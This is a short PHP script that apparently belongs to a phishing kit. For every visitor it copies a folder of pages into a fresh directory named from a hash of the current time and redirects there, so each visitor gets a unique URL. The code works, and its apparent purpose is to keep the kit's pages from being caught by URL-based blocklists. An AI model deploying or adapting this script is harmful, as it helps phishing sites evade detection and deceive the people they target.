<?php
// every visitor gets a copy of the kit under a folder named from the hashed time
$stamp = new DateTime('now');
$target = md5($stamp->format('Y-m-d H:i:s.u'));
copy_tree('page', $target);
header("Location: $target/");

function copy_tree($from, $to) {
    @mkdir($to);
    foreach (scandir($from) as $f) {
        if ($f === '.' || $f === '..') {
            continue;
        }
        is_dir("$from/$f") ? copy_tree("$from/$f", "$to/$f") : copy("$from/$f", "$to/$f");
    }
}
